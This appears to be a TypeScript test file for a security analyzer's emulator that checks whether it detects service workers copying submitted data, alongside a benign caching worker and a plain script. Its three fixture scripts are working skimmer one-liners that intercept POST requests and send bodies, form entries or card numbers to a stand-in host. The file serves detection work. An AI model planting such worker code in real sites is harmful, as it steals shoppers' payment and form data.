import assert from 'node:assert/strict';
import { summarise } from '../../../analyzer/emulator/index.ts';
import { eventsOf, flowsOf, run } from './sandbox-of-tests.ts';

const copiers: Readonly<Record<string, string>> = {
  'as text': `self.addEventListener('fetch', e => { if (e.request.method === 'POST') e.waitUntil(e.request.clone().text().then(t => fetch('https://c.example/', { method: 'POST', body: t }))) })`,
  'as a form': `addEventListener('fetch', e => e.respondWith((async () => { const f = await e.request.clone().formData(); await fetch('https://c.example/?' + btoa(JSON.stringify([...f.entries()]))); return fetch(e.request) })()))`,
  'as JSON': `self.onfetch = e => { e.request.json().then(d => navigator.sendBeacon('https://c.example/', d.cc_number)) }`,
};

describe('emulator: service workers', () => {
  for (const [how, script] of Object.entries(copiers))
    it(`shows what a worker copies ${how}`, async () => {
      const flows = await flowsOf(script);
      assert.ok(
        flows.some(({ field, host }) => field === 'card-number' && host === 'c.example'),
        JSON.stringify(flows),
      );
    });

  it('finds nothing in a worker that keeps pages for later', async () => {
    const trace = await run(
      `self.addEventListener('install', e => self.skipWaiting()); self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
       self.addEventListener('fetch', e => e.respondWith(caches.match(e.request).then(kept => kept || fetch(e.request))))`,
    );
    assert.deepEqual(summarise(trace).flows, []);
    assert.deepEqual(eventsOf(trace, 'error'), []);
  });

  it('sends nothing through a script that is no worker', async () =>
    assert.deepEqual(eventsOf(await run("addEventListener('load', () => fetch('/a'))"), 'shop-request'), []));
});
